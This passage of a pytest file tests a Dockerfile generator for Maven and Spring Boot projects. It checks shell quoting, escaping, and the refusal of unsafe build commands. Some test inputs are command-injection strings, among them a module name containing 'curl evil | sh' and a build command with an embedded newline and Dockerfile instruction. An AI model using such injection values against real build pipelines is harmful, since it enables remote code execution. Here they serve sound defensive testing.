    files = shop()
    name = "a'; curl evil | sh #"
    files[f"{name}/pom.xml"] = files.pop("app/pom.xml")
    files[f"{name}/{MAIN_PATH}"] = files.pop(f"app/{MAIN_PATH}")
    files["pom.xml"] = pom(modules("core", name), artifact="shop", parent=boot_parent("4.1.2"))
    text = dockerfile(detect(project, files))
    quoted = shlex.quote(name)
    assert f"--projects {quoted} --also-make" in text
    assert f"-jar {shlex.quote(f'{name}/target/app-')}*.jar \\\n" in text
    escaped = name.replace("'", "\\\\'")  # COPY removes quotes in the JSON form too
    assert f'COPY ["{escaped}/src/", "{escaped}/src/"]\n' in text


@pytest.mark.parametrize(
    ("artifact", "printed"),
    [("target/*.jar", "target/*.jar"), ("target/*;x.jar", "target/*';x.jar'")],
)
def test_an_artifact_of_the_users_may_hold_a_wildcard_but_no_command(
    project: MakeProject, artifact: str, printed: str
) -> None:
    found = detect(project, {"pom.xml": boot_application()}, artifact=artifact)
    assert f"-jar {printed} \\\n" in dockerfile(found)


def test_a_jar_in_a_folder_with_a_space_is_copied_by_its_wildcard(project: MakeProject) -> None:
    files = shop(app=MANIFEST)
    files["my app/pom.xml"] = files.pop("app/pom.xml")
    files["pom.xml"] = pom(modules("core", "my app"), artifact="shop")
    made = dockerfile(detect(project, files))
    assert 'COPY --from=build ["/workspace/my app/target/app-*.jar", "./application.jar"]\n' in made


def test_a_command_of_the_users_with_a_line_end_is_refused(project: MakeProject) -> None:
    message = "--set build_command: build_command contains a control"
    with pytest.raises(UnusableInput, match=message):
        detect(project, {"pom.xml": boot_application()}, build_command="mvn\nRUN x")


# Spring Boot with its libraries beside it

NOTHING = (
    "<includes><include><groupId>none</groupId><artifactId>none</artifactId></include></includes>"
)


def thin(layout: str, *more: str) -> str:
    packed = BOOT_PLUGIN.replace(
        "</plugin>", f"<configuration>{layout}{NOTHING}</configuration></plugin>"
    )
    return boot_application("4.1.2").replace(BOOT_PLUGIN, f"{packed}{''.join(more)}")


def test_libraries_that_the_archive_leaves_out_lie_beside_it(project: MakeProject) -> None:
    copied = plugin(
        "maven-dependency-plugin",
        "<outputDirectory>${project.build.directory}/lib</outputDirectory>",
        "copy-dependencies",
    )
    found = detect(project, {"pom.xml": thin("<layout>ZIP</layout>", copied)})
    assert instructions(dockerfile(found), "COPY")[-2:] == [
        "--from=build /workspace/target/lib/ lib/",
        "--from=build /workspace/target/app-*.jar ./application.jar",
    ]
    assert "-Dloader.path=lib" in str(value(found, "start_command"))
    assert "copy-dependencies" not in str(value(found, "build_command"))


def test_the_build_copies_them_where_no_plugin_does(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": thin("<layout>DIR</layout>")})
    assert "dependency:copy-dependencies" in str(value(found, "build_command"))
    assert warnings(found) == ()


def test_libraries_that_nothing_looks_for_are_a_warning(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": thin("")})
    assert value(found, "libraries") is None
    assert "leaves its libraries out" in warnings(found)[0]
